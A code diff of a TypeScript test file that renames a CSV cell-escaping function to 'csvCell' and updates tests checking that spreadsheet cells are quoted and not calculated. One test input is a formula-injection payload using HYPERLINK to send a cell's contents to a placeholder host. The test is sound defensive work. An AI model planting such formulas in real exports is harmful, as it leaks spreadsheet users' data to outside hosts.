@@ -8,7 +8,8 @@ import { unified } from 'unified'
 import { visit } from 'unist-util-visit'
 import { describe, expect, test } from 'vitest'
 import { z } from 'zod'
-import { cell, csvReport } from '#scripts/report/csv.ts'
+import { csvCell } from '#core/csv.ts'
+import { csvReport } from '#scripts/report/csv.ts'
 import { gapReportSchema } from '#scripts/report/gap-report.schema.ts'
 import { headline } from '#scripts/report/gap-report.ts'
 import { onPaper } from '#scripts/report/html/filters.ts'
@@ -321,13 +322,13 @@ describe('the table for spreadsheets', () => {
     ],
     '=HYPERLINK("http://x/?"&A1,"click")',
   ])('does not calculate %j', (text) => {
-    expect(cell(text).startsWith(`"'`)).toBe(true)
+    expect(csvCell(text).startsWith(`"'`)).toBe(true)
   })
 
   test('quotes everything', () => {
     fc.assert(
       fc.property(fc.string({ unit: 'binary' }), (text) => {
-        const inner = cell(text).slice(1, -1)
+        const inner = csvCell(text).slice(1, -1)
         expect(inner.replaceAll('""', '')).not.toContain('"')
       }),
     )
